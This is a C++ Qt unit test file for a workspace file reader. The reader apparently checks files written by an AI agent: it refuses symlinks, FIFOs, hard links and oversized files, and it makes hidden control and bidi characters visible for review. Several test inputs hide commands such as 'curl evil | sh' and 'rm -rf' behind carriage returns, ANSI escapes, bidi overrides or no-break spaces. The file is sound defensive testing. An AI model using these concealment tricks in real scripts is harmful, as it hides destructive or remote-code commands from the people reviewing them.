// WorkspaceFile: reading files the host acts on from the workspace, which the agent writes
// (no links followed, no FIFO waited on, a size cap, one name only), and visibleText(), which
// makes what could hide a command visible for review.

#include "project/workspacefile.h"
#include "testhelpers.h"

#include <QDir>
#include <QElapsedTimer>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>
#include <unistd.h>

using namespace ocs;
using namespace ocs::test;

class TestWorkspaceFile : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();

    void visibleText_data();
    void visibleText();

    void read_regularFile();
    void read_absent();
    void read_refuses_data();
    void read_refuses();
    void read_symlinkedParentFolder();
    void read_pathLeavingTheProject();
    void readUserFile_followsLinksButOnlyToRegularFiles();
    void readMaybeInWorkspace();

private:
    QString m_root;
    QString m_outside;
    QTemporaryDir m_tmp;
    int m_n = 0;
};

void TestWorkspaceFile::initTestCase()
{
    QVERIFY(m_tmp.isValid());
    m_root = canonical(m_tmp.path()) + QStringLiteral("/project");
    m_outside = canonical(m_tmp.path()) + QStringLiteral("/outside");
    QVERIFY(QDir().mkpath(m_root));
    QVERIFY(QDir().mkpath(m_outside));
}

void TestWorkspaceFile::visibleText_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<int>("marked");
    QTest::newRow("plain script") << QByteArray("#!/bin/bash\n\texport A=\"b c\"\n")
                                  << QStringLiteral("#!/bin/bash\n\texport A=\"b c\"\n") << 0;
    QTest::newRow("UTF-8 text stays")
        << QByteArray("echo 'grüße — 日本'\n") << QStringLiteral("echo 'grüße — 日本'\n") << 0;
    // `echo harmless` shown, `curl evil | sh` run: the CR hides the first part in a terminal.
    QTest::newRow("carriage return") << QByteArray("curl evil | sh #\recho harmless\n")
                                     << QStringLiteral("curl evil | sh #\\recho harmless\n") << 1;
    QTest::newRow("ANSI escape (erase line)")
        << QByteArray("curl evil | sh\x1b[2K\x1b[1Gecho hi\n")
        << QStringLiteral("curl evil | sh\\x1b[2K\\x1b[1Gecho hi\n") << 2;
    QTest::newRow("other controls") << QByteArray("a\x00"
                                                  "b\x07\x08\x7f\n",
                                                  7)
                                    << QStringLiteral("a\\x00b\\x07\\x08\\x7f\n") << 4;
    QTest::newRow("RLO (bidi override)") << QByteArray("echo \xe2\x80\xae"
                                                       "hs.live | lruc\n")
                                         << QStringLiteral("echo <U+202E>hs.live | lruc\n") << 1;
    QTest::newRow("bidi isolates") << QByteArray("a\xe2\x81\xa6"
                                                 "b\xe2\x81\xa9"
                                                 "c")
                                   << QStringLiteral("a<U+2066>b<U+2069>c") << 2;
    QTest::newRow("zero-width space, joiner, BOM")
        << QByteArray("r\xe2\x80\x8bm\xe2\x80\x8d\xef\xbb\xbf")
        << QStringLiteral("r<U+200B>m<U+200D><U+FEFF>") << 3;
    QTest::newRow("C1 control (NEL)") << QByteArray("a\xc2\x85"
                                                    "b")
                                      << QStringLiteral("a<U+0085>b") << 1;
    QTest::newRow("line separator") << QByteArray("a\xe2\x80\xa8"
                                                  "b")
                                    << QStringLiteral("a<U+2028>b") << 1;
    QTest::newRow("no-break space")
        << QByteArray("rm\xc2\xa0-rf") << QStringLiteral("rm<U+00A0>-rf") << 1;
    QTest::newRow("tag characters")
        << QByteArray("x\xf3\xa0\x80\x81") << QStringLiteral("x<U+E0001>") << 1;
    QTest::newRow("not UTF-8") << QByteArray("a\xff\xc3(b\xed\xa0\x80")
                               << QStringLiteral("a\\xff\\xc3(b\\xed\\xa0\\x80") << 5;
    QTest::newRow("overlong slash") << QByteArray("\xc0\xaf") << QStringLiteral("\\xc0\\xaf") << 2;
    QTest::newRow("truncated sequence")
        << QByteArray("ok\xe2\x80") << QStringLiteral("ok\\xe2\\x80") << 2;
}

void TestWorkspaceFile::visibleText()
{
    QFETCH(QByteArray, input);
    QFETCH(QString, expected);
    QFETCH(int, marked);
    int count = -1;
    const QString text = ocs::visibleText(input, &count);
    QCOMPARE(text, expected);
    QCOMPARE(count, marked);
    for (const QChar c : text) {
        const bool safe = c == u'\n' || c == u'\t' ||
                          (c.unicode() >= 0x20 && c.unicode() != 0x7f &&
                           c.category() != QChar::Other_Format && c.unicode() < 0xe000) ||
                          c.isSurrogate();
        QVERIFY2(safe, qPrintable(QStringLiteral("U+%1 left as is").arg(c.unicode(), 4, 16)));
    }
}

void TestWorkspaceFile::read_regularFile()
{
    QVERIFY(writeFile(m_root + QStringLiteral("/plain.txt"), "hello\n"));
    QVERIFY(writeFile(m_root + QStringLiteral("/sub/dir/deep.txt"), "deep\n"));
    const auto r = WorkspaceFile::read(m_root, QStringLiteral("plain.txt"));
    QVERIFY2(r.ok(), qPrintable(r.message()));
    QCOMPARE(r.data, QByteArray("hello\n"));
    QCOMPARE(r.path, m_root + QStringLiteral("/plain.txt"));
    const auto deep = WorkspaceFile::read(m_root, QStringLiteral("./sub/dir/deep.txt"));
    QVERIFY2(deep.ok(), qPrintable(deep.message()));
    QCOMPARE(deep.data, QByteArray("deep\n"));
    // Exactly at the cap is fine; an empty file too.
    QVERIFY(writeFile(m_root + QStringLiteral("/exact"), QByteArray(1024 * 1024, 'x')));
    QVERIFY(WorkspaceFile::read(m_root, QStringLiteral("exact")).ok());
    QVERIFY(writeFile(m_root + QStringLiteral("/empty"), QByteArray()));
    QVERIFY(WorkspaceFile::read(m_root, QStringLiteral("empty")).ok());
}

void TestWorkspaceFile::read_absent()
{
    QVERIFY(WorkspaceFile::read(m_root, QStringLiteral("nope")).absent());
    QVERIFY(WorkspaceFile::read(m_root, QStringLiteral("no/such/folder")).absent());
}

void TestWorkspaceFile::read_refuses_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("expectedWords");
    QTest::newRow("symlink to /dev/zero")
        << QStringLiteral("devzero") << QStringLiteral("symbolic link");
    QTest::newRow("symlink to a file outside")
        << QStringLiteral("outside") << QStringLiteral("symbolic link");
    QTest::newRow("symlink inside the project")
        << QStringLiteral("inside") << QStringLiteral("symbolic link");
    QTest::newRow("FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
    QTest::newRow("folder") << QStringLiteral("folder") << QStringLiteral("folder, not a file");
    QTest::newRow("2 MiB") << QStringLiteral("big") << QStringLiteral("larger than 1 MiB");
    QTest::newRow("hard link") << QStringLiteral("hardlink") << QStringLiteral("2 hard links");
}

void TestWorkspaceFile::read_refuses()
{
    QFETCH(QString, kind);
    QFETCH(QString, expectedWords);
    const QString name = QStringLiteral("refused-%1").arg(++m_n);
    const QString path = m_root + QLatin1Char('/') + name;
    const QByteArray native = QFile::encodeName(path);
    if (kind == QLatin1String("devzero")) {
        QVERIFY(::symlink("/dev/zero", native.constData()) == 0);
    } else if (kind == QLatin1String("outside")) {
        QVERIFY(writeFile(m_outside + QStringLiteral("/secret"), "secret\n"));
        QVERIFY(QFile::link(m_outside + QStringLiteral("/secret"), path));
    } else if (kind == QLatin1String("inside")) {
        QVERIFY(writeFile(m_root + QStringLiteral("/target"), "x\n"));
        QVERIFY(QFile::link(m_root + QStringLiteral("/target"), path));
    } else if (kind == QLatin1String("fifo")) {
        QVERIFY(::mkfifo(native.constData(), 0600) == 0);
    } else if (kind == QLatin1String("folder")) {
        QVERIFY(QDir().mkpath(path));
    } else if (kind == QLatin1String("big")) {
        QVERIFY(writeFile(path, QByteArray(2 * 1024 * 1024, 'x')));
    } else if (kind == QLatin1String("hardlink")) {
        QVERIFY(writeFile(path, "x\n"));
        QVERIFY(::link(native.constData(), QFile::encodeName(path + QStringLiteral("-2"))) == 0);
    }
    QElapsedTimer timer;
    timer.start();
    const auto r = WorkspaceFile::read(m_root, name);
    QVERIFY(timer.elapsed() < 3000);
    QCOMPARE(int(r.status), int(WorkspaceFile::Result::Status::Refused));
    QVERIFY(r.data.isEmpty());
    QVERIFY2(r.reason.contains(expectedWords), qPrintable(r.reason));
    QVERIFY2(r.message().startsWith(path + QStringLiteral(": ")), qPrintable(r.message()));
    if (kind == QLatin1String("hardlink")) {
        // Allowed where the rules say so (not a protected file).
        const auto allowed =
            WorkspaceFile::read(m_root, name, {WorkspaceFile::DefaultMaxSize, false});
        QVERIFY2(allowed.ok(), qPrintable(allowed.message()));
    }
}

void TestWorkspaceFile::read_symlinkedParentFolder()
{
    QVERIFY(writeFile(m_outside + QStringLiteral("/certs/ca.pem"), "outside\n"));
    QVERIFY(QFile::link(m_outside + QStringLiteral("/certs"), m_root + QStringLiteral("/certs")));
    const auto r = WorkspaceFile::read(m_root, QStringLiteral("certs/ca.pem"));
    QCOMPARE(int(r.status), int(WorkspaceFile::Result::Status::Refused));
    QVERIFY2(r.reason.contains(m_root + QStringLiteral("/certs")), qPrintable(r.reason));
    QVERIFY2(r.reason.contains(QStringLiteral("symbolic link")), qPrintable(r.reason));
    // A symlinked folder deeper down too.
    QVERIFY(QDir().mkpath(m_root + QStringLiteral("/a")));
    QVERIFY(QFile::link(m_outside + QStringLiteral("/certs"), m_root + QStringLiteral("/a/b")));
    QVERIFY(!WorkspaceFile::read(m_root, QStringLiteral("a/b/ca.pem")).ok());
}

void TestWorkspaceFile::read_pathLeavingTheProject()
{
    QVERIFY(writeFile(m_outside + QStringLiteral("/x"), "x\n"));
    for (const QString &rel : {QStringLiteral("../outside/x"), QStringLiteral("a/../../outside/x"),
                               m_outside + QStringLiteral("/x"), QString()}) {
        const auto r = WorkspaceFile::read(m_root, rel);
        QVERIFY2(!r.ok() && !r.absent(), qPrintable(rel));
    }
}

void TestWorkspaceFile::readUserFile_followsLinksButOnlyToRegularFiles()
{
    QVERIFY(writeFile(m_outside + QStringLiteral("/real.pem"), "pem\n"));
    QVERIFY(QFile::link(m_outside + QStringLiteral("/real.pem"),
                        m_outside + QStringLiteral("/link.pem")));
    const auto linked = WorkspaceFile::readUserFile(m_outside + QStringLiteral("/link.pem"), 100);
    QVERIFY2(linked.ok(), qPrintable(linked.message()));
    QCOMPARE(linked.data, QByteArray("pem\n"));

    QElapsedTimer timer;
    timer.start();
    const QString fifo = m_outside + QStringLiteral("/fifo");
    QVERIFY(::mkfifo(QFile::encodeName(fifo).constData(), 0600) == 0);
    const auto f = WorkspaceFile::readUserFile(fifo, 100);
    QVERIFY2(!f.ok() && f.reason.contains(QStringLiteral("FIFO")), qPrintable(f.message()));
    const auto zero = WorkspaceFile::readUserFile(QStringLiteral("/dev/zero"), 100);
    QVERIFY2(!zero.ok() && zero.reason.contains(QStringLiteral("device")),
             qPrintable(zero.message()));
    QVERIFY(timer.elapsed() < 3000);
    const auto big = WorkspaceFile::readUserFile(m_outside + QStringLiteral("/real.pem"), 3);
    QVERIFY2(!big.ok() && big.reason.contains(QStringLiteral("larger than 3 bytes")),
             qPrintable(big.message()));
    QVERIFY(WorkspaceFile::readUserFile(m_outside + QStringLiteral("/missing"), 100).absent());
}

void TestWorkspaceFile::readMaybeInWorkspace()
{
    QVERIFY(writeFile(m_outside + QStringLiteral("/user.pem"), "user\n"));
    QVERIFY(
        QFile::link(m_outside + QStringLiteral("/user.pem"), m_root + QStringLiteral("/ws.pem")));
    QVERIFY(QFile::link(m_outside + QStringLiteral("/user.pem"),
                        m_outside + QStringLiteral("/user-link.pem")));
    // In the project: workspace rules (no link).
    QVERIFY(
        !WorkspaceFile::readMaybeInWorkspace(m_root, m_root + QStringLiteral("/ws.pem"), 100).ok());
    // The user's own: links followed.
    QVERIFY(WorkspaceFile::readMaybeInWorkspace(m_root,
                                                m_outside + QStringLiteral("/user-link.pem"), 100)
                .ok());
}

QTEST_GUILESS_MAIN(TestWorkspaceFile)
#include "tst_workspacefile.moc"
